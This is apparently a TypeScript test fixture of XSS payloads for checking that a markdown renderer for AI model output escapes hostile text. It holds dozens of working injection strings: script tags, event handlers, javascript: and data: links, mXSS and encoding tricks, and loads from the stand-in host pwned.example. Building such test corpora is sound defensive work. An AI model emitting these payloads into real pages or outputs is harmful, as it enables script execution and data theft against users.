// Hostile model output. Every payload that ever ran would set window.__pwned (or open a dialog,
// or fetch from pwned.example); the XSS suite renders each one as answer text and as thinking.
// Grouped by technique; each entry names the trick it tries.

export interface XssPayload {
  readonly name: string;
  readonly text: string;
}

const P = 'window.__pwned=1';

export const xssCorpus: readonly XssPayload[] = [
  // Raw HTML: markdown-it runs with html:false, so none of this may become markup.
  { name: 'script tag', text: `<script>${P}</script>` },
  { name: 'script tag, mixed case', text: `<ScRiPt>${P}</sCrIpT>` },
  { name: 'script with src', text: '<script src="https://pwned.example/x.js"></script>' },
  { name: 'script split by a newline', text: `<scr\nipt>${P}</script>` },
  { name: 'img onerror', text: `<img src=x onerror="${P}">` },
  { name: 'img onerror without quotes', text: `<img src=x onerror=${P}>` },
  { name: 'svg onload', text: `<svg onload="${P}"></svg>` },
  { name: 'svg with script inside', text: `<svg><script>${P}</script></svg>` },
  {
    name: 'svg animate href',
    text: `<svg><a><animate attributeName="href" values="javascript:${P}"/><text y="20">x</text></a></svg>`,
  },
  {
    name: 'svg foreignObject',
    text: `<svg><foreignObject><iframe srcdoc="<script>parent.${P}</script>"></iframe></foreignObject></svg>`,
  },
  {
    name: 'MathML maction',
    text: `<math><maction actiontype="statusline" xlink:href="javascript:${P}">x</maction></math>`,
  },
  {
    name: 'MathML mglyph style confusion',
    text: `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`,
  },
  { name: 'body onload', text: `<body onload="${P}">` },
  { name: 'details ontoggle', text: `<details open ontoggle="${P}">x</details>` },
  { name: 'div onmouseover', text: `<div onmouseover="${P}">hover</div>` },
  { name: 'input autofocus onfocus', text: `<input autofocus onfocus="${P}">` },
  { name: 'video source onerror', text: `<video><source onerror="${P}"></video>` },
  { name: 'audio src onerror', text: `<audio src=x onerror="${P}">` },
  { name: 'iframe srcdoc', text: `<iframe srcdoc="<script>parent.${P}</script>"></iframe>` },
  { name: 'iframe javascript src', text: `<iframe src="javascript:${P}"></iframe>` },
  { name: 'object data', text: `<object data="javascript:${P}"></object>` },
  { name: 'embed src', text: '<embed src="https://pwned.example/x.swf">' },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=javascript:${P}">` },
  { name: 'base href', text: '<base href="https://pwned.example/">' },
  { name: 'form action', text: `<form action="javascript:${P}"><button>go</button></form>` },
  { name: 'button formaction', text: `<button formaction="javascript:${P}">x</button>` },
  { name: 'link stylesheet', text: '<link rel="stylesheet" href="https://pwned.example/x.css">' },
  { name: 'style tag with url()', text: '<style>body{background:url(https://pwned.example/bg.png)}</style>' },
  { name: 'inline style url()', text: '<p style="background:url(https://pwned.example/bg.png)">x</p>' },
  { name: 'style @import', text: '<style>@import "https://pwned.example/x.css";</style>' },
  { name: 'template with script', text: `<template><script>${P}</script></template>` },
  { name: 'noscript mXSS', text: `<noscript><p title="</noscript><img src=x onerror=${P}>">` },
  { name: 'comment breakout', text: `<!--><img src=x onerror=${P}>-->` },
  { name: 'CDATA breakout', text: `<![CDATA[><img src=x onerror=${P}>]]>` },
  { name: 'entity-encoded tag', text: `&lt;img src=x onerror=${P}&gt;` },
  { name: 'numeric entity tag', text: `&#60;script&#62;${P}&#60;/script&#62;` },
  { name: 'hex entity javascript: in HTML href', text: `<a href="&#x6A;avascript:${P}">x</a>` },
  { name: 'anchor with javascript href', text: `<a href="javascript:${P}">click</a>` },
  {
    name: 'isindex / portal oddities',
    text: `<portal src="https://pwned.example"></portal><isindex action="javascript:${P}">`,
  },
  // Markdown links and images.
  { name: 'markdown javascript: link', text: `[click](javascript:${P})` },
  { name: 'markdown JavaScript: link, mixed case', text: `[click](JaVaScRiPt:${P})` },
  { name: 'markdown javascript: link with entity', text: `[click](javascript&#58;${P})` },
  { name: 'markdown javascript: link with tab', text: `[click](java\tscript:${P})` },
  { name: 'markdown javascript: link percent-encoded', text: `[click](javascript%3A${P})` },
  { name: 'markdown vbscript: link', text: '[click](vbscript:msgbox(1))' },
  {
    name: 'markdown data: link',
    text: `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`,
  },
  {
    name: 'markdown data: image',
    text: `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=)`,
  },
  { name: 'markdown remote image', text: '![tracker](https://pwned.example/pixel.png)' },
  {
    name: 'markdown image with onerror in title',
    text: `![x](https://pwned.example/a.png "\\" onerror=\\"${P}")`,
  },
  { name: 'markdown link title breakout', text: `[x](https://example.com "a\\" onmouseover=\\"${P}")` },
  { name: 'markdown reference link to javascript:', text: `[click][r]\n\n[r]: javascript:${P}` },
  { name: 'markdown autolink javascript:', text: `<javascript:${P}>` },
  { name: 'markdown autolink data:', text: '<data:text/html,<script>window.__pwned=1</script>>' },
  { name: 'markdown file: link', text: '[passwd](file:///etc/passwd)' },
  { name: 'markdown command: link', text: '[run](command:workbench.action.terminal.new)' },
  { name: 'markdown vscode: link', text: '[open](vscode://file/etc/passwd)' },
  { name: 'linkified javascript: text', text: `see javascript:${P} now` },
  { name: 'link text with HTML', text: `[<img src=x onerror=${P}>](https://example.com)` },
  { name: 'nested brackets and parens', text: `[a](https://example.com/)(javascript:${P})` },
  { name: 'URL with quote breakout', text: `https://example.com/"><img src=x onerror=${P}>` },
  // Code fences and spans.
  {
    name: 'HTML inside a code fence',
    text: `\`\`\`html\n<script>${P}</script>\n<img src=x onerror="${P}">\n\`\`\``,
  },
  { name: 'fence info string breakout', text: `\`\`\`"><img src=x onerror=${P}>\ncode\n\`\`\`` },
  { name: 'fence language with script', text: `\`\`\`<script>${P}</script>\nx\n\`\`\`` },
  { name: 'HTML in a code span', text: `\`<img src=x onerror=${P}>\`` },
  { name: 'unclosed fence with HTML', text: `\`\`\`js\n</code></pre><img src=x onerror=${P}>` },
  {
    name: 'highlighted JS that looks like markup',
    text: `\`\`\`js\nconst s = "</span><img src=x onerror=${P}>";\n\`\`\``,
  },
  // Tables, lists, quotes carrying HTML.
  { name: 'table cell with HTML', text: `| a |\n|---|\n| <img src=x onerror=${P}> |` },
  { name: 'table alignment style injection', text: '| a |\n|:-:|\n| b |' },
  { name: 'list item with iframe', text: `- <iframe src="javascript:${P}"></iframe>` },
  { name: 'blockquote with script', text: `> <script>${P}</script>` },
  { name: 'heading with event handler', text: `# <span onclick="${P}">title</span>` },
  // Encodings and odd characters.
  { name: 'NUL byte inside tag name', text: `<scr\u0000ipt>${P}</scr\u0000ipt>` },
  { name: 'full-width angle brackets', text: `＜script＞${P}＜/script＞` },
  { name: 'zero-width joiner in scheme', text: `[x](java\u200Dscript:${P})` },
  { name: 'right-to-left override in link', text: `[x](https://example.com/\u202Egnp.exe)` },
  { name: 'double-encoded entity', text: `&amp;lt;script&amp;gt;${P}&amp;lt;/script&amp;gt;` },
];
